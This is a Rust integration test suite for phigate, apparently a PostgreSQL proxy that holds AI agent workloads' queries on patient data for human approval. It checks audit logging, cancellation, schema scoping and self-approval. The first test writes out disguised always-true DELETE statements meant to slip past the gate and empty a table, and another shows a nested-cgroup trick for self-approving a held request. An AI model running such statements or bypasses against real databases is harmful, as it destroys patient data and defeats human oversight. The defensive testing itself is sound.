    if skip("always_true_conditions_of_a_third_review_delete_every_row") {
        return;
    }
    let e = env("");
    let mut emptied = Vec::new();
    for stmt in [
        "delete from labs where id = (select id)",
        "delete from labs where id is not distinct from (select id)",
        "delete from labs where id in (values (id))",
        "delete from labs where case id when id then true end",
        "delete from labs where not case when id = id then false else true end",
        "delete from labs where test = test collate \"C\"",
    ] {
        let o = psql_each(&e, &["begin", stmt, "select count(*) from labs", "rollback"]);
        let out = String::from_utf8_lossy(&o.stdout).into_owned();
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        println!("== {stmt}\n   stdout: {}\n   stderr: {}", out.trim(), err.trim());
        if out.lines().any(|l| l.trim() == "0") {
            emptied.push(stmt);
        }
    }
    assert!(emptied.is_empty(), "labs emptied through phigate by: {emptied:#?}");
}

#[test]
fn a_workload_in_a_nested_protected_cgroup_cannot_approve_its_own_request() {
    if skip("a_workload_in_a_nested_protected_cgroup_cannot_approve_its_own_request") {
        return;
    }
    // Found by a review (it failed before the fix): with nested protected cgroups (/agent = care-agent, and inside
    // it /agent/inner = helper-agent), the kernel names a process in /agent/inner/c by the
    // OUTERMOST protected ancestor (care-agent: task_protected_cgroup walks ancestors
    // from the root down), while the admin API names the same process by the NEAREST one
    // (caller_workload walks up from its own cgroup: helper-agent). The self-approval
    // rule compares those names, so one process (one cgroup, even) whose statement is
    // held as care-agent approves it itself.
    let e = env_with(PHI_TABLES, "approval_timeout_secs = 30", |_, cg, cfg| {
        cg.child("agent/inner/c");
        cfg.protect(&format!("{}/agent", cg.rel()), "care-agent")
            .protect(&format!("{}/agent/inner", cg.rel()), "helper-agent")
            .identity(IdentitySpec::workload("care-agent", "clinical", "postgres"))
            .identity(IdentitySpec::workload("helper-agent", "clinical", "postgres"))
    });
    let child = spawn(psql_cmd(&e, "agent/inner/c", &["select * from encounters"]));
    let req = wait_pending(&e);
    let id = req["id"].to_string();
    // The requester's own cgroup asks to approve.
    let o = approvals(&e, &["approve", &id, "--reason", "I approve myself"], Some("agent/inner/c"));
    let out = child.wait_with_output().unwrap();
    assert!(
        !o.status.success(),
        "a process in /agent/inner/c approved request {id}, held for identity {} made by a process in that same cgroup (stdout {}, stderr {}); the query then returned {} rows",
        req["requester"]["identity"],
        String::from_utf8_lossy(&o.stdout).trim(),
        String::from_utf8_lossy(&o.stderr).trim(),
        String::from_utf8_lossy(&out.stdout).lines().count()
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("self-approval refused"), "{}", String::from_utf8_lossy(&o.stderr));
}

#[test]
fn a_held_statement_the_client_cancelled_never_runs() {
    if skip("a_held_statement_the_client_cancelled_never_runs") {
        return;
    }
    let e = env("approval_timeout_secs = 30");
    // Held: the subquery reads every encounter (baseline.unbounded-phi-read).
    let child = spawn_psql(&e, "update labs set value = 0 where patient_id in (select patient_id from encounters)");
    let req = wait_pending(&e);
    let id = req["id"].to_string();
    // The user thinks better of it: Ctrl-C. psql sends a CancelRequest (through the
    // redirect, to phigate) and waits for the statement's answer.
    let kill = Command::new("kill").args(["-INT", &child.id().to_string()]).status().expect("kill runs");
    assert!(kill.success());
    let withdrawn = wait_for(Duration::from_secs(5), || pending(&e).iter().all(|r| r["id"] != req["id"]).then_some(()));
    // An approver who has not heard of the cancel approves the request.
    let o = approvals(&e, &["approve", &id, "--reason", "looks fine"], None);
    let out = child.wait_with_output().unwrap();
    let zeroed = e.pg.psql_admin("postgres", "select count(*) from labs where value = 0").expect("count");
    assert!(
        withdrawn.is_some() && zeroed.trim() == "0",
        "request {id} stayed pending after its client cancelled it (withdrawn: {}); approved afterwards ({}), it ran: {} labs rows set to 0 (psql stdout {:?}, stderr {:?})",
        withdrawn.is_some(),
        String::from_utf8_lossy(&o.stdout).trim(),
        zeroed.trim(),
        String::from_utf8_lossy(&out.stdout).trim(),
        String::from_utf8_lossy(&out.stderr).trim()
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("canceling statement due to user request"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_grant_window_does_not_follow_an_unqualified_name_to_another_schema() {
    if skip("a_grant_window_does_not_follow_an_unqualified_name_to_another_schema") {
        return;
    }
    let e = env_with(&["public.patients", "public.encounters", "archive.encounters"], "approval_timeout_secs = 30", |pg, cg, cfg| {
        // Older encounters, PHI too, in their own schema.
        pg.psql_admin(
            "postgres",
            "create schema archive; create table archive.encounters (id int primary key, patient_id int, note text);
             insert into archive.encounters select g, g, 'archived note ' || g from generate_series(1, 2000) g;",
        )
        .expect("archive");
        cg.child("agent");
        cfg.protect(&format!("{}/agent", cg.rel()), "care-agent").identity(IdentitySpec::workload("care-agent", "clinical", "postgres"))
    });

    // Approved for 10 minutes: every row of encounters (public's: the session's
    // search_path is the default).
    let child = spawn_psql(&e, "select * from encounters");
    let req = wait_pending(&e);
    let o = approvals(&e, &["approve", &req["id"].to_string(), "--reason", "nightly summary", "--window", "10m"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).lines().count(), 50);

    // The same text in a session whose search_path leads to archive.encounters.
    let mut cmd = psql_cmd(&e, "agent", &["select * from encounters"]);
    cmd.env("PGOPTIONS", "-c search_path=archive");
    let mut other = spawn(cmd);
    let held = wait_for(Duration::from_secs(5), || pending(&e).into_iter().next().or_else(|| other.try_wait().ok().flatten().map(|_| Value::Null)));
    if let Some(r) = held.as_ref().filter(|r| !r.is_null()) {
        approvals(&e, &["deny", &r["id"].to_string(), "--reason", "another schema"], None);
    }
    let out = other.wait_with_output().unwrap();
    let rows = String::from_utf8_lossy(&out.stdout).lines().count();
    assert!(
        held.as_ref().is_some_and(|r| !r.is_null()),
        "the window granted for `select * from encounters` (public.encounters, 50 rows) let the same text read archive.encounters unasked: {rows} rows (stderr {:?})",
        String::from_utf8_lossy(&out.stderr).trim()
    );
}

#[test]
fn a_statement_run_under_a_window_names_its_approval_in_the_audit_log() {
    if skip("a_statement_run_under_a_window_names_its_approval_in_the_audit_log") {
        return;
    }
    let e = env("approval_timeout_secs = 30");
    let child = spawn_psql(&e, "select * from public.encounters");
    let req = wait_pending(&e);
    let o = approvals(&e, &["approve", &req["id"].to_string(), "--reason", "ticket 4711", "--window", "10m"], None);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    child.wait_with_output().unwrap();
    psql(&e, "select * from public.encounters");
    // An auditor asks which approval (and why) let this statement run: several windows
    // may be open at once, granted by the same person.
    let rec = e.agent.wait_audit("statement", |d| d["approval"]["outcome"] == "approved_by_window").expect("the window's use is recorded");
    assert_eq!(rec["data"]["approval"]["id"], req["id"], "the record does not name the approval whose window let it run: {}", rec["data"]["approval"]);
    assert_eq!(rec["data"]["approval"]["reason"], "ticket 4711", "{}", rec["data"]["approval"]);
}

#[test]
fn a_pipelining_client_gets_the_held_notice_between_messages() {
    if skip("a_pipelining_client_gets_the_held_notice_between_messages") {
        return;
    }
    // Unmasked rows larger than one read stream through phigate in pieces.
    let e = env("approval_timeout_secs = 30\n[masking]\nenabled = false");
    let bin = std::env::var_os("PHIGATE_PGCLIENT_BIN").map(PathBuf::from).unwrap_or_else(|| target_dir().join("debug/phigate-pgclient"));
    let conn = format!("host=127.0.0.2 port={} user=agent dbname=postgres connect_timeout=10", e.pg.port());
    // Where the statement lands in the stream is a matter of timing: a few tries.
    for _ in 0..5 {
        let mut cmd = Command::new(&bin);
        // While 20 MB of rows stream to it, the client sends a statement that is held.
        cmd.args(["raw-pipelined", &conn, "select repeat('x', 200000) from generate_series(1, 100)", "select * from encounters"]).stdin(Stdio::null());
        run_in(&mut cmd, &e.cg.child_dir("agent"));
        let out = cmd.output().expect("phigate-pgclient runs");
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|err| panic!("{err}: {} {}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)));
        assert_eq!(v["ok"], true, "{v}");
        assert_eq!(v["broken"], false, "the client's message stream broke (phigate's notice inside a streamed row): {v}");
        // The notice goes between two messages, wherever.
        assert!(["TDCZN", "TDNDCZ", "TNDCZ", "TDNCZ", "TDCNZ"].contains(&v["tags"].as_str().unwrap_or("")), "{v}");
    }
}
